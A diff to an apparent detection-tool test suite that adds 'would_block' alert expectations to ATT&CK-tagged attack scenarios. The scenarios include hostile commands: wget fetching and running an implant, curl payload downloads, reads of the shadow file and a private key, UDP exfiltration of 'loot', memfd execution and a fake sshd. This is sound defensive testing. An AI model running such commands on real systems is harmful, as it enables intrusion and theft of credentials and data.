@@ -28,6 +28,8 @@ const SENSITIVE: &str = "sensitive_file_read";
 const CONNECTION: &str = "unexpected_connection";
 const INJECTION: &str = "process_injection";
 const MOUNT: &str = "mount_changed";
+/// The dry run of enforcement (alert mode): what enforce would have refused.
+const WOULD: &str = "would_block";
 
 const PYTHON: &str = "/usr/bin/python3.11";
 
@@ -134,7 +136,7 @@ const SCENARIOS: &[Scenario] = &[
         &[(LINEAGE, "/usr/bin/chown"), (PROTECTED, "@W/etc/device.key")]),
     s("T1564.001", "a hidden program dropped and run",
         "/usr/bin/cp /usr/bin/true @W/data/.hidden && @W/data/.hidden",
-        &[(LINEAGE, "@W/data/.hidden"), (UNKNOWN, "@W/data/.hidden")]),
+        &[(LINEAGE, "@W/data/.hidden"), (UNKNOWN, "@W/data/.hidden"), (WOULD, "@W/data/.hidden")]),
     s("T1620", "a program run from memory (memfd)",
         "/usr/bin/python3.11 -c 'import os; fd = os.memfd_create(\"kit\"); \
          os.write(fd, open(\"/usr/bin/true\", \"rb\").read()); \
@@ -147,10 +149,11 @@ const SCENARIOS: &[Scenario] = &[
         ]),
     s("T1036.005", "a program masquerading as a system daemon",
         "/usr/bin/cp /usr/bin/true @W/sbin/sshd && @W/sbin/sshd",
-        &[(LINEAGE, "@W/sbin/sshd"), (UNKNOWN, "@W/sbin/sshd")]),
+        &[(LINEAGE, "@W/sbin/sshd"), (UNKNOWN, "@W/sbin/sshd"), (WOULD, "@W/sbin/sshd")]),
     s("T1036.005", "a listed program replaced by another",
         "/usr/bin/cp /usr/bin/true @W/bin/status && @W/bin/status",
-        &[(LINEAGE, "@W/bin/status"), ("modified_executable", "@W/bin/status")]),
+        &[(LINEAGE, "@W/bin/status"), ("modified_executable", "@W/bin/status"),
+          (WOULD, "@W/bin/status")]),
     s("T1003.008", "the shadow file read", "/usr/bin/cat @W/etc/shadow > /dev/null",
         &[(LINEAGE, "/usr/bin/cat"), (SENSITIVE, "@W/etc/shadow")]),
     s("T1552.004", "the device's private key read", "/usr/bin/base64 @W/etc/device.key > /dev/null",
@@ -164,20 +167,21 @@ const SCENARIOS: &[Scenario] = &[
           (SENSITIVE, "@W/etc/shadow")]),
     s("T1105", "a tool downloaded with curl",
         "/usr/bin/curl -fsS -o @W/data/payload http://127.0.0.1:@A/payload",
-        &[(CONNECTION, "/usr/bin/curl"), (LINEAGE, "/usr/bin/curl")]),
+        &[(CONNECTION, "/usr/bin/curl"), (LINEAGE, "/usr/bin/curl"), (WOULD, "/usr/bin/curl")]),
     s("T1105", "an implant downloaded with wget into /tmp and run",
         "/usr/bin/wget -q -O @T/implant http://127.0.0.1:@A/implant && /usr/bin/chmod +x @T/implant && @T/implant",
         &[(LINEAGE, "@T/implant"), (LINEAGE, "/usr/bin/wget"), (SUSPICIOUS, "@T/implant"),
-          (UNKNOWN, "@T/implant"), (CONNECTION, "/usr/bin/wget")]),
+          (UNKNOWN, "@T/implant"), (CONNECTION, "/usr/bin/wget"), (WOULD, "@T/implant"),
+          (WOULD, "/usr/bin/wget")]),
     s("T1571", "a connection to a non-standard port",
         "/usr/bin/python3.11 -c 'import socket; socket.create_connection((\"127.0.0.1\", @B)).close()'",
-        &[(CONNECTION, PYTHON)]),
+        &[(CONNECTION, PYTHON), (WOULD, PYTHON)]),
     s("T1090", "a proxy listening for the attacker",
         "/usr/bin/python3.11 -c 'import socket; s = socket.socket(); s.bind((\"127.0.0.1\", @L)); s.listen()'",
-        &[("unexpected_listener", PYTHON)]),
+        &[("unexpected_listener", PYTHON), (WOULD, PYTHON)]),
     s("T1048.003", "data sent out over UDP",
         "/usr/bin/python3.11 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"loot\", (\"127.0.0.1\", @U))'",
-        &[(CONNECTION, PYTHON)]),
+        &[(CONNECTION, PYTHON), (WOULD, PYTHON)]),
     s("T1055.008", "ptrace attach to another process",
         "/usr/bin/sleep 30 & /usr/bin/python3.11 -c 'import ctypes, os, sys; \
          libc = ctypes.CDLL(None, use_errno=True); \
